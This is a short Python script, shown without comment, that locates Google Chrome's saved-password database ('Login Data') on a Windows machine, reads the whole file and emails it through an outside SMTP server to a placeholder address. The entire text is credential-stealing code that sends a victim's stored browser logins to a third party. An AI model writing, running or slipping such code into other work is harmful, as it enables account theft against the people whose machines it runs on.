import os, smtplib
src = os.path.join(os.environ["LOCALAPPDATA"], "Google", "Chrome", "User Data", "Default", "Login Data")
smtplib.SMTP("mail.example.invalid").sendmail("a@example.org", "b@example.org", open(src, "rb").read())
